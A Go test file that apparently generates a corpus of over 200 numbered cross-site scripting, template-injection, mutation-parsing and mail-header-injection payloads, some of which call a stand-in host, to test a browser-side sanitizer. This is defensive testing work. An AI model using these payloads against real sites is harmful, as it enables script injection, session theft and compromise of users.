package browser

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "write testdata/payloads.jsonl again")

// payload is a text that runs as a script, or asks another host, where a page takes it for more than text. It is
// known by its number when it runs: __x is a function that the browser's side provides.
type payload struct {
	N     int    `json:"n"`
	Class string `json:"class"`
	Text  string `json:"text"`
}

var number = regexp.MustCompile(`\bN\b`)

// classes are the known ways, each with its forms. They are written from how browsers parse: where a text ends, what
// begins an element, an attribute, an address or a script in it, and which steps between decode it once more. N alone
// stands for the payload's number.
func classes() []struct {
	name  string
	forms []string
} {
	type class = struct {
		name  string
		forms []string
	}
	before := func(prefixes []string, text string) (out []string) {
		for _, p := range prefixes {
			out = append(out, p+text)
		}
		return out
	}
	between := func(format string, values ...string) (out []string) {
		for _, v := range values {
			out = append(out, strings.ReplaceAll(format, "*", v))
		}
		return out
	}
	all := []class{
		{"script elements", []string{
			`<script>__x(N)</script>`, `<ScRiPt>__x(N)</sCrIpT>`, `<script >__x(N)</script >`, `<script/x>__x(N)</script/x>`, "<script\n>__x(N)</script\n>", "<script\t\f>__x(N)</script>",
			`<script src=data:text/javascript,__x(N)></script>`, `<script type=module>__x(N)</script>`, `<script>__x(N)`, `<<script>__x(N)//<</script>`, `<scr<script>ipt>__x(N)</scr</script>ipt>`,
			`<script><!--` + "\n" + `__x(N)//--></script>`, `<script src=//elsewhere.test/N></script>`, `<script language=javascript>window['__'+'x'](N)</script>`, `<script>eval('__'+'x(N)')</script>`}},
		{"ends of what a text may stand in", before([]string{"</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</iframe>", "</select>", "</option></select>", "</pre>", "</xmp>", "-->", "]]>", "*/</style>",
			"</svg>", "</table>"}, `<script>__x(N)</script>`)},
		{"event handlers that need nobody", append(between(`<* onerror=__x(N)>`, "img src=x", "IMG SRC=x", "img/src=x", "img src='x'", "video src=x", "audio src=x", "video><source", "object data=x", "input type=image src=x", "image src=x"),
			`<svg onload=__x(N)>`, `<svg/onload=__x(N)>`, `<body onload=__x(N)>`, `<iframe onload=__x(N)>`, `<style onload=__x(N)></style>`, `<input autofocus onfocus=__x(N)>`, `<select autofocus onfocus=__x(N)>`,
			`<textarea autofocus onfocus=__x(N)>`, `<a href=# autofocus onfocus=__x(N)>x</a>`, `<p tabindex=0 autofocus onfocus=__x(N)>x`, `<details open ontoggle=__x(N)>x`, `<marquee onstart=__x(N)>x</marquee>`,
			`<img src=x onerror="alert(N)">`, "<img src=x onerror=`__x(N)`>", "<img src=x\nonerror\n=\n__x(N)>", `<img src=x onerror=&#95;&#95;x(N)>`, `<img src=x onerror="&lowbar;_x(N)">`, `<img src=x OnErRoR=__x(N)>`,
			`<img src=x onerror=__x(N)//`, `<img src="x" alt="" onerror="location='//elsewhere.test/N'">`, `<img src=x onerror=fetch('//elsewhere.test/N')>`)},
		{"event handlers that wait", between(`<* on!=__x(N)>x`, "p", "a href=#", "b style=position:fixed;inset:0")},
		{"svg and mathml", []string{
			`<svg><script>__x(N)</script></svg>`, `<svg><script href=data:text/javascript,__x(N) /></svg>`, `<svg><animate onbegin=__x(N) attributeName=x dur=1s>`, `<svg><set onbegin=__x(N) attributeName=x to=y>`,
			`<svg><foreignObject><img src=x onerror=__x(N)></foreignObject></svg>`, `<svg><a xlink:href="javascript:__x(N)"><text y=20>x</text></a></svg>`, `<svg><use href="//elsewhere.test/N#x"/></svg>`,
			`<svg><image href=x onerror=__x(N)></svg>`, `<svg><title><img src=x onerror=__x(N)></title></svg>`, `<svg><desc><script>__x(N)</script></desc></svg>`,
			`<math href="javascript:__x(N)">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=__x(N)></annotation-xml></math>`, `<math><mi><script>__x(N)</script></mi></math>`,
			`<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>__x(N)</x:script></svg>`}},
		{"addresses", []string{
			`javascript:__x(N)`, `JaVaScRiPt:__x(N)`, "java\tscript:__x(N)", "java\nscript:__x(N)", "\x01javascript:__x(N)", ` javascript:__x(N)`, `javascript&colon;__x(N)`, `javascript&#58;__x(N)`, `&#106;avascript:__x(N)`,
			`javascript://elsewhere.test/%0a__x(N)`, `data:text/html,<script>__x(N)</script>`, `vbscript:__x(N)`, `view-source:javascript:__x(N)`, `//elsewhere.test/N`, `\\elsewhere.test\N`, `https:elsewhere.test/N`,
			`<a href="javascript:__x(N)">x</a>`, `<form action="javascript:__x(N)"><button>x</button></form>`, `<iframe src="javascript:__x(N)">`, `<embed src="javascript:__x(N)">`, `<button form=f formaction="javascript:__x(N)">x</button>`}},
		{"ends of attributes", []string{
			`" autofocus onfocus=__x(N) x="`, `' autofocus onfocus=__x(N) x='`, "` autofocus onfocus=__x(N) x=`", ` autofocus onfocus=__x(N) `, `x autofocus onfocus=__x(N)`, `"><img src=x onerror=__x(N)>`, `'><img src=x onerror=__x(N)>`,
			`><img src=x onerror=__x(N)>`, `"/><svg onload=__x(N)>`, `" onmouseover="__x(N)`, `" style="background:url(//elsewhere.test/N)`, `" srcdoc="<script>__x(N)</script>`, `" formaction="javascript:__x(N)`,
			`" hx-get="//elsewhere.test/N" hx-trigger="load" x="`, `" hx-on::load="__x(N)" x="`, `" data-hx-get="//elsewhere.test/N" data-hx-trigger="load" x="`, `" hx-vals="js:{a:__x(N)}" hx-trigger="load" hx-get="/" x="`,
			`<div hx-get="//elsewhere.test/N" hx-trigger="load"></div>`, `<div hx-on::load="__x(N)" hx-trigger="load">x</div>`, `&quot; autofocus onfocus=__x(N) x=&quot;`}},
		{"templates", []string{
			`{{__x(N)}}`, `{{constructor.constructor('__x(N)')()}}`, `{{"<script>__x(N)</script>"}}`, `{{printf "%s" "<img src=x onerror=__x(N)>"}}`, `{{template "page" .}}__x(N)`, `{{/* */}}<script>__x(N)</script>`,
			`${__x(N)}`, `${{__x(N)}}`, `#{__x(N)}`, `<%= __x(N) %>`, `{% __x(N) %}`, `[[__x(N)]]`, `{{{__x(N)}}}`, `{{subject}}<script>__x(N)</script>`}},
		{"ends of scripts' texts", []string{
			`';__x(N);//`, `";__x(N);//`, "`;__x(N);//", `\';__x(N);//`, `\";__x(N);//`, `'-__x(N)-'`, `"+__x(N)+"`, `\u0027;__x(N);//`, `\x22;__x(N);//`, "\u2028__x(N)//", "\u2029__x(N)//", `"}];__x(N);//`, `)});__x(N);({`, `*/__x(N)/*`, `</script><!--><script>__x(N)//`}},
		{"entities", []string{
			`&lt;script&gt;__x(N)&lt;/script&gt;`, `&#60;script&#62;__x(N)&#60;/script&#62;`, `&#x3c;img src=x onerror=__x(N)&#x3e;`, `&amp;lt;script&amp;gt;__x(N)&amp;lt;/script&amp;gt;`, `&#60script&#62__x(N)&#60/script&#62`,
			`&#0000060;img src=x onerror=__x(N)&#0000062;`, `%3Cscript%3E__x(N)%3C/script%3E`, `\x3cscript\x3e__x(N)\x3c/script\x3e`, `\u003cimg src=x onerror=__x(N)\u003e`, `+ADw-script+AD4-__x(N)+ADw-/script+AD4-`, `&lt;img src=x onerror=__x(N)&gt;`}},
		{"texts that change when they are parsed again", []string{
			`<noscript><p title="</noscript><img src=x onerror=__x(N)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__x(N)&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=__x(N)>">`,
			`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__x(N)>`, `<listing>&lt;img src=x onerror=__x(N)&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=__x(N)>">`,
			`<select><style></select><img src=x onerror=__x(N)></style>`, `<title><p title="</title><img src=x onerror=__x(N)>">`, `<!--><img src=x onerror=__x(N)>-->`, `<!--!><img src=x onerror=__x(N)>-->`, `<!-- --!><img src=x onerror=__x(N)>`,
			`<![CDATA[><img src=x onerror=__x(N)>]]>`, `<?x ><img src=x onerror=__x(N)>?>`, `<table><td><img src=x onerror=__x(N)>`, `<plaintext><img src=x onerror=__x(N)>`, `<p id="x&#34;><img src=x onerror=__x(N)>`}},
		{"styles and what is loaded", []string{
			`<style>@import "//elsewhere.test/N";</style>`, `<b style="background:url(//elsewhere.test/N)">x</b>`, `<b style="width:expression(__x(N))">x</b>`, `x;background:url(//elsewhere.test/N)`, `}*{background:url(//elsewhere.test/N)}`,
			`<link rel=stylesheet href=//elsewhere.test/N>`, `<link rel=preload as=image href=//elsewhere.test/N>`, `<base href=//elsewhere.test/N/>`, `<meta http-equiv=refresh content="0;url=//elsewhere.test/N">`,
			`<meta http-equiv=refresh content="0;url=data:text/html,<script>__x(N)</script>">`, `<img src=//elsewhere.test/N>`, `<img srcset="//elsewhere.test/N 1x">`, `<iframe src=//elsewhere.test/N>`, `<video poster=//elsewhere.test/N>`, `<table background=//elsewhere.test/N>`}},
		{"control characters", []string{
			"<scr\x00ipt>__x(N)</scr\x00ipt>", "<img\x00src=x onerror=__x(N)>", "<img src=x onerror\x00=__x(N)>", "\x00<script>__x(N)</script>", "<img src=x onerror=\x0b__x(N)>", "<\x08script>__x(N)</script>", "\ufeff<script>__x(N)</script>", "\x1b[31m<script>__x(N)</script>",
			"<img\x0csrc=x\x0conerror=__x(N)>", "x\x7f<script>__x(N)</script>"}},
		{"letters that look alike", []string{
			"＜script＞__x(N)＜/script＞", "﹤img src=x onerror=__x(N)﹥", "‹script›__x(N)‹/script›", "<ſcript>__x(N)</ſcript>", "<ımg src=x onerror=__x(N)>", "<img src=x onerror＝__x(N)>", "ʺ onfocus=__x(N) autofocus ʺ", "＂ onfocus=__x(N) autofocus ＂", "¼script¾__x(N)¼/script¾"}},
		{"lines of mail", []string{
			"Hi\r\nBcc: n@elsewhere.test\r\nX: __x(N)", "Hi\r\n\r\n<script>__x(N)</script>", "Hi\nContent-Type: text/html\n\n<script>__x(N)</script>", "=?utf-8?Q?=3Cscript=3E__x(N)=3C/script=3E?=", "Hi%0d%0aSet-Cookie:%20x=N __x(N)", "Hi\r\n.\r\nQUIT\r\n__x(N)",
			"\"<script>__x(N)</script>\" <n@elsewhere.test>"}},
		{"directions and nothing", []string{
			"\u202e<script>__x(N)</script>", "\u2066<img src=x onerror=__x(N)>\u2069", "<\u200bscript>__x(N)</script>", "\u200f\"><img src=x onerror=__x(N)>", "invoice\u202egnp.exe __x(N)", "\u00ad<script>__x(N)</script>"}},
	}
	for i := range all {
		if all[i].name == "event handlers that wait" {
			var forms []string
			for _, f := range all[i].forms {
				forms = append(forms, between(strings.ReplaceAll(f, "!", "*"), "mouseover", "click", "pointerenter")...)
			}
			all[i].forms = forms
		}
	}
	return all
}

func payloads() (all []payload) {
	for _, c := range classes() {
		for _, form := range c.forms {
			n := 1001 + len(all) // as wide as any other, and rare in a page
			all = append(all, payload{N: n, Class: c.name, Text: number.ReplaceAllString(form, fmt.Sprint(n))})
		}
	}
	return all
}

// TestDocsAreCurrent holds the file of payloads to the rules that they are made by; `make docs` writes it.
func TestDocsAreCurrent(t *testing.T) {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	texts := map[string]bool{}
	for _, p := range payloads() {
		if err := e.Encode(p); err != nil {
			t.Fatal(err)
		}
		if texts[p.Text] || !strings.Contains(p.Text, fmt.Sprint(p.N)) {
			t.Errorf("payload %d comes twice or does not say its number: %s", p.N, p.Text)
		}
		texts[p.Text] = true
	}
	if len(texts) < 200 {
		t.Errorf("%d payloads, fewer than 200", len(texts))
	}
	const name = "testdata/payloads.jsonl"
	if *update {
		if err := os.WriteFile(name, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if was, err := os.ReadFile(name); err != nil || !bytes.Equal(was, b.Bytes()) {
		t.Errorf("%s is not what the rules make; run make docs (%v)", name, err)
	}
	t.Logf("%d payloads of %d classes", len(texts), len(classes()))
}
